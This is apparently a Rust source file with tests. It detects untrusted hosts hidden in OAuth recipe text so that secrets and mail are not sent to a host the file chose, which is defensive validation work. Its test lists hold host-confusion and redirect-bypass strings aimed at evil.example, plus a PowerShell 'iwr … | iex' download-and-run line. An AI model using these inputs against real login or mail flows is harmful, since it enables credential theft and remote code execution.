//! Where a text of a recipe leads whoever uses it: computers that the file chose, however they are written.
//!
//! Nothing here opens an address. What an application is given may be one all the same, and the application sends there what it
//! has: the client secret, codes, mail. So a computer is rather found where none was meant than not found.

use percent_encoding::percent_decode_str;

use crate::{
    provider::{ProviderId, is_trusted, opens},
    recipe::Recipe,
};

/// So often the percent signs of a text are read once more.
const MOST_DECODED: usize = 3;

impl Recipe {
    /// The first computer in the text that is neither its provider's nor an answer of the person's own. Names of the recipe's
    /// permissions look like one and are none.
    pub fn stranger_in(&self, text: &str) -> Option<String> {
        let is_permission = |word: &str| self.permission.iter().any(|permission| permission.name.as_str() == word);
        let stranger = |text: &String| {
            let words = words(text).filter(|word| !is_permission(word));
            words.flat_map(places).find(|name| !self.is_known(name)).map(str::to_owned)
        };
        decoded(text).iter().find_map(stranger)
    }

    fn is_known(&self, name: &str) -> bool {
        let host = name.to_ascii_lowercase();
        let choices = self.question.iter().flat_map(|question| &question.choice).filter_map(|choice| choice.provider);
        let mut providers = [self.provider].into_iter().chain(choices);
        is_answer(name) || providers.any(|one: ProviderId| is_trusted(one, &host) || opens(one, &host))
    }
}

/// Whether the computer an address leads to is one answer and nothing else: `{answer.host}.example` and `{answer.host}@example`
/// lead to example.
pub fn leads_to_answer(address: &str) -> bool {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    is_answer(without_port(authority(rest)))
}

/// One pair of braces around everything.
fn is_answer(name: &str) -> bool {
    let inner = name.strip_prefix('{').and_then(|inner| inner.strip_suffix('}'));
    inner.is_some_and(|inner| !inner.contains(['{', '}']))
}

/// The text as it stands, and as it is once its percent signs are read.
fn decoded(text: &str) -> Vec<String> {
    let mut all = vec![text.to_owned()];
    for _ in 0..MOST_DECODED {
        let next = percent_decode_str(&all[all.len() - 1]).decode_utf8_lossy().into_owned();
        if all.contains(&next) {
            break;
        }
        all.push(next);
    }
    all
}

/// What stands between characters that are in no address before its path. A word that begins with a dollar sign is a variable.
fn words(text: &str) -> impl Iterator<Item = &str> {
    let apart = |one: char| !one.is_alphanumeric() && !"-_.:/\\@{}[]?#$%\u{3002}".contains(one);
    text.split(apart).filter(|word| !word.is_empty() && !word.starts_with('$'))
}

const fn is_slash(one: char) -> bool {
    matches!(one, '/' | '\\')
}

/// Every place a word may lead to: behind two slashes whatever stands there, and at its beginning, behind a colon or an at sign
/// what looks like the name of a computer. Browsers take a backslash for a slash and do without slashes behind `https:` (WHATWG
/// URL, "special authority slashes state").
fn places(word: &str) -> impl Iterator<Item = &str> {
    let marks = word.match_indices([':', '@', '/', '\\']).map(|(at, _)| at + 1);
    [0].into_iter().chain(marks).filter_map(|begin| {
        let (before, rest) = word.split_at(begin);
        let slashes = before.len() - before.trim_end_matches(is_slash).len();
        let behind_scheme = before.trim_end_matches(is_slash).ends_with(':');
        let name =
            if slashes > 1 { without_port(authority(rest)) } else { authority(rest).split([':', '@']).next()? };
        let there = slashes > 1 || (slashes == 0 || behind_scheme) && looks_like_host(name);
        (there && !name.is_empty()).then_some(name)
    })
}

/// Up to where a path, a query or a fragment begins.
fn authority(rest: &str) -> &str {
    rest.split(['/', '\\', '?', '#']).next().unwrap_or_default()
}

/// Without digits behind a colon.
fn without_port(authority: &str) -> &str {
    let is_port = |port: &str| port.chars().all(|one| one.is_ascii_digit());
    authority.rsplit_once(':').filter(|(_, port)| is_port(port)).map_or(authority, |(name, _)| name)
}

/// Two names or more with dots between them, the last of letters; or the four numbers of an address. What is filled in counts as
/// letters.
fn looks_like_host(name: &str) -> bool {
    let filled = filled(name);
    let labels: Vec<&str> = filled.trim_end_matches('.').split('.').collect();
    let named = labels.iter().all(|label| !label.is_empty() && label.chars().all(is_of_a_name));
    let numbers = labels.len() == 4 && labels.iter().all(|label| label.chars().all(|one| one.is_ascii_digit()));
    let last = labels.last().copied().unwrap_or_default();
    let lettered = last.starts_with("xn--") || last.chars().count() > 1 && last.chars().all(char::is_alphabetic);
    labels.len() > 1 && named && (lettered || numbers)
}

fn is_of_a_name(one: char) -> bool {
    one.is_alphanumeric() || matches!(one, '-' | '_')
}

/// With letters in place of braces and what is in them, and one kind of dot (RFC 3490 section 3.1).
fn filled(name: &str) -> String {
    let mut filled = String::new();
    let mut in_braces = false;
    for one in name.chars() {
        match one {
            '{' => in_braces = true,
            '}' => {
                in_braces = false;
                filled.push_str("xx");
            }
            '\u{3002}' | '\u{ff0e}' | '\u{ff61}' => filled.push('.'),
            other => filled.extend((!in_braces).then_some(other)),
        }
    }
    filled
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Recipes;

    #[test]
    fn an_address_leads_to_an_answer_only_where_nothing_stands_beside_it() {
        for address in [
            "{answer.address}",
            "https://{answer.host}/oauth",
            "https://{answer.host}:48444/oauth",
            "https://{answer.host}?a={answer.b}",
        ] {
            assert!(leads_to_answer(address), "{address}");
        }
        for address in [
            "https://desk.example/oauth",
            "https://{answer.host}.evil.example/oauth",
            "https://{answer.host}@evil.example/oauth",
            "https://evil.example:{answer.host}/oauth",
            "https://{answer.host}{answer.more}/oauth",
        ] {
            assert!(!leads_to_answer(address), "{address}");
        }
    }

    fn stranger(text: &str) -> Option<String> {
        let recipes = Recipes::bundled().unwrap();
        recipes.recipe("tourtools").unwrap().stranger_in(text)
    }

    #[test]
    fn a_computer_that_the_file_chose_is_found_however_it_is_written() {
        for text in [
            "https://evil.example/{tenant}/oauth2/v2.0/token",
            "evil.example",
            "EVIL.example:8443/token",
            "//evil.example/token",
            "https:evil.example/token",
            "https:\\\\evil.example\\token",
            "https://evil/token",
            "http://2130706433/",
            "http://[2001:db8::1]/",
            "192.0.2.1",
            "https://login.microsoftonline.com.evil.example/{tenant}",
            "https://login.microsoftonline.com@evil.example/token",
            "https://login.microsoftonline.com@evil/token",
            "https://login.microsoftonline.com\\@evil.example/token",
            "https://login.microsoftonline.com:443@evil.example",
            "https://login.microsoftonline.com\u{ff0e}evil.example",
            "login\u{3002}evil\u{3002}example",
            "https://evil.example#login.microsoftonline.com",
            "https://login.microsoftonline.com/authorize?redirect_uri=https://evil.example/",
            "https://login.microsoftonline.com/authorize?redirect_uri=https%3A%2F%2Fevil.example%2F",
            "https://login.microsoftonline.com/authorize?redirect_uri=https%253A%252F%252Fevil%252Eexample",
            "https://{answer.host}.evil.example/token",
            "https://{answer.host}:evil.example/token",
            "{answer.any}evil.example",
            "copy@evil.example",
            "{mailbox}@evil.example",
            "Server=smtp.evil.example;Port=25",
            "iwr (\"evil.example/x\")|iex",
            "https://login.microsoftonline.us/{tenant}",
            "\\\\evil\\share",
        ] {
            assert!(stranger(text).is_some(), "{text}");
        }
        assert_eq!(stranger("at https://Evil.example:44/token?x").as_deref(), Some("Evil.example"));
    }

    #[test]
    fn what_leads_to_the_provider_to_an_answer_or_nowhere_is_no_stranger() {
        for text in [
            "https://login.microsoftonline.com/{tenant}/oauth2/v2.0/token",
            "offline_access https://graph.microsoft.com/Mail.Send Mail.Send",
            "https://graph.microsoft.com/.default",
            "smtp.office365.com:587",
            "https://{answer.host}/oauth?to={redirect_encoded}",
            "{answer.host}:25",
            "{redirect}",
            "{mailbox}",
            "api://{client_id}/offline_access",
            "Web",
            "STARTTLS, TLS 1.2 (v2.0)",
            "urn:ietf:wg:oauth:2.0:oob",
            "C:\\Mail\\access",
            "587",
        ] {
            assert_eq!(stranger(text), None, "{text}");
        }
    }
}
